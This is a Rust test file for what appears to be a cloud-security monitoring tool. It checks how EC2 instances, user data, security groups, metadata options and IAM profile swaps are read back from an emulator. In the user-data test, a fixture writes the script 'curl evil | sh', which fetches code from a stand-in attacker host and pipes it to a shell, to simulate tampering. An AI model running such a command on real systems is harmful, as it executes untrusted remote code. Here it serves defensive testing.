//! Instances and their parts, before and after they are modified in place.

use aws_sdk_ec2::primitives::Blob;
use aws_sdk_ec2::types::{HttpTokensState, IamInstanceProfileSpecification, SecureBlobAttributeValue};
use cattleguard::collect::CloudRead;
use cattleguard::types::{Instance, InstanceId};
use serde_json::json;

use crate::scene::{BANK, IRELAND, OHIO, Person, SHOP, Scene, ireland};

async fn only(cloud: &dyn CloudRead, id: &str) -> Instance {
    let mut found = cloud.instances_by_id(&ireland(SHOP), &[InstanceId::from(id)]).await.unwrap();
    assert_eq!(found.len(), 1);
    found.remove(0)
}

async fn new_group(person: &Person, name: &str) -> String {
    let vpcs = person.ec2.describe_vpcs().send().await.unwrap();
    let vpc = vpcs.vpcs.unwrap()[0].vpc_id.clone().unwrap();
    let request = person.ec2.create_security_group().group_name(name).description(name).vpc_id(vpc);
    request.send().await.unwrap().group_id.unwrap()
}

#[tokio::test]
async fn instances_stay_in_their_account_and_region() {
    let scene = Scene::new().await;
    for (account, region, app) in [(SHOP, IRELAND, "web"), (SHOP, OHIO, "db"), (BANK, IRELAND, "pay")] {
        let person = scene.person("mia@example.com", account, region).await;
        person.launch("ami-0123456789abcdef0", app, 1).await;
    }
    let cloud = scene.cloud();
    for (account, region, app) in [(SHOP, IRELAND, "web"), (SHOP, OHIO, "db"), (BANK, IRELAND, "pay")] {
        let place = cattleguard::types::Place::new(account, region);
        let page = cloud.instances(&place, None).await.unwrap();
        assert_eq!(page.items.len(), 1, "{place}");
        let one = &page.items[0];
        assert_eq!((one.account.as_str(), one.region.as_str()), (account, region));
        assert_eq!(one.tags.get("app").map(String::as_str), Some(app));
        assert!(page.next.is_none());
    }
    assert!(cloud.instances(&cattleguard::types::Place::new(BANK, OHIO), None).await.unwrap().items.is_empty());
}

#[tokio::test]
async fn terminated_instances_are_not_listed() {
    let scene = Scene::new().await;
    let mia = scene.person("mia@example.com", SHOP, IRELAND).await;
    let ids = mia.launch("ami-0123456789abcdef0", "web", 2).await;
    mia.ec2.terminate_instances().instance_ids(&ids[0]).send().await.unwrap();
    let cloud = scene.cloud();
    let listed = cloud.instances(&ireland(SHOP), None).await.unwrap().items;
    assert_eq!(listed.iter().map(|one| one.id.as_str()).collect::<Vec<_>>(), [ids[1].as_str()]);
    let asked: Vec<InstanceId> = ids.iter().map(|id| InstanceId::from(id.as_str())).collect();
    let by_id = cloud.instances_by_id(&ireland(SHOP), &asked).await.unwrap();
    assert_eq!(by_id.len(), 1, "the terminated one is gone here too");
}

#[tokio::test]
async fn a_modification_shows_in_the_instance() {
    let scene = Scene::new().await;
    let mia = scene.person("mia@example.com", SHOP, IRELAND).await;
    let id = mia.launch("ami-0123456789abcdef0", "web", 1).await.remove(0);
    let cloud = scene.cloud();
    let before = only(&cloud, &id).await;
    let root = &before.volumes[0];
    assert!(root.root && root.delete_on_termination == Some(true), "{root:?}");
    assert_eq!(before.instance_type, "t3.micro");
    assert_eq!(before.interfaces[0].device_index, 0);
    assert!(before.interfaces[0].addresses[0].parse::<std::net::Ipv4Addr>().is_ok(), "{:?}", before.interfaces);
    assert!(before.launched_at.as_second() > 1_700_000_000);

    let group = new_group(&mia, "opened-up").await;
    mia.ec2.modify_instance_attribute().instance_id(&id).groups(&group).send().await.unwrap();
    let options = mia.ec2.modify_instance_metadata_options().instance_id(&id);
    options.http_tokens(HttpTokensState::Optional).http_put_response_hop_limit(3).send().await.unwrap();
    let after = only(&cloud, &id).await;
    assert_eq!(after.security_groups().iter().map(|one| one.as_str()).collect::<Vec<_>>(), [group.as_str()]);
    assert_ne!(before.security_groups(), after.security_groups());
    assert_eq!(after.metadata_options.http_tokens.as_deref(), Some("optional"));
    assert_eq!(after.metadata_options.http_put_response_hop_limit, Some(3));
}

#[tokio::test]
async fn user_data_comes_decoded() {
    let scene = Scene::new().await;
    let mia = scene.person("mia@example.com", SHOP, IRELAND).await;
    let id = mia.launch("ami-0123456789abcdef0", "web", 1).await.remove(0);
    let bare = mia.ec2.run_instances().image_id("ami-0123456789abcdef0").min_count(1).max_count(1).send().await;
    let bare = bare.unwrap().instances.unwrap()[0].instance_id.clone().unwrap();
    let cloud = scene.cloud();
    let read = async |id: &str| cloud.user_data(&ireland(SHOP), &InstanceId::from(id)).await.unwrap();
    assert_eq!(read(&id).await.as_deref(), Some(b"#!/bin/sh\necho golden\n".as_slice()));
    assert_eq!(read(&bare).await, None);
    let edited = SecureBlobAttributeValue::builder().value(Blob::new("#!/bin/sh\ncurl evil | sh\n")).build();
    mia.ec2.modify_instance_attribute().instance_id(&id).user_data(edited).send().await.unwrap();
    assert_eq!(read(&id).await.as_deref(), Some(b"#!/bin/sh\ncurl evil | sh\n".as_slice()));
}

#[tokio::test]
async fn a_replaced_profile_shows_in_instance_and_association() {
    let scene = Scene::new().await;
    let mia = scene.person("mia@example.com", SHOP, IRELAND).await;
    let id = mia.launch("ami-0123456789abcdef0", "web", 1).await.remove(0);
    for name in ["web", "admin"] {
        scene.emulator.steer("_profiles", json!({"account": SHOP, "name": name})).await;
    }
    let profile = |name: &str| IamInstanceProfileSpecification::builder().name(name).build();
    let request = mia.ec2.associate_iam_instance_profile().instance_id(&id).iam_instance_profile(profile("web"));
    let first = request.send().await.unwrap().iam_instance_profile_association.unwrap().association_id.unwrap();
    let cloud = scene.cloud();
    let page = cloud.profile_associations(&ireland(SHOP), None).await.unwrap();
    assert_eq!(page.items[0].association, first);
    assert_eq!(page.items[0].instance.as_str(), id);
    let web = format!("arn:aws:iam::{SHOP}:instance-profile/web");
    assert_eq!(page.items[0].profile_arn, web);
    assert_eq!(only(&cloud, &id).await.instance_profile, Some(web));

    let request = mia.ec2.replace_iam_instance_profile_association().association_id(&first);
    request.iam_instance_profile(profile("admin")).send().await.unwrap();
    let admin = format!("arn:aws:iam::{SHOP}:instance-profile/admin");
    assert_eq!(only(&cloud, &id).await.instance_profile.as_deref(), Some(admin.as_str()));
    let page = cloud.profile_associations(&ireland(SHOP), None).await.unwrap();
    assert_eq!(page.items.len(), 1);
    assert_eq!(page.items[0].profile_arn, admin);
}

#[tokio::test]
async fn volumes_images_and_addresses_are_told() {
    let scene = Scene::new().await;
    let mia = scene.person("mia@example.com", SHOP, IRELAND).await;
    let image = mia.image("web-2026.11.1").await;
    let id = mia.launch(&image, "web", 1).await.remove(0);
    let cloud = scene.cloud();
    let place = ireland(SHOP);

    let volumes = cloud.volumes(&place, None).await.unwrap().items;
    let instance = only(&cloud, &id).await;
    assert_eq!(volumes.len(), 1);
    assert_eq!(volumes[0].id, instance.volumes[0].id);
    assert_eq!(volumes[0].size_gib, Some(8));
    assert!(volumes[0].encrypted.is_some() && volumes[0].volume_type.is_some(), "{:?}", volumes[0]);

    let wanted = [image.as_str().into(), "ami-0feed0feed0feed00".into()];
    let images = cloud.images(&place, &wanted).await.unwrap();
    assert_eq!(images.len(), 1, "an unknown image is missing, not an error");
    assert_eq!((images[0].name.as_deref(), images[0].state.as_str()), (Some("web-2026.11.1"), "available"));

    assert!(cloud.addresses(&place).await.unwrap().is_empty());
    let address = mia.ec2.allocate_address().send().await.unwrap();
    let request = mia.ec2.associate_address().instance_id(&id).allocation_id(address.allocation_id.unwrap());
    let association = request.send().await.unwrap().association_id.unwrap();
    let addresses = cloud.addresses(&place).await.unwrap();
    assert_eq!(addresses.len(), 1);
    assert_eq!(
        (addresses[0].association.as_str(), addresses[0].instance.as_str()),
        (association.as_str(), id.as_str())
    );
    assert_eq!(Some(&addresses[0].public_ip), address.public_ip.as_ref());
}
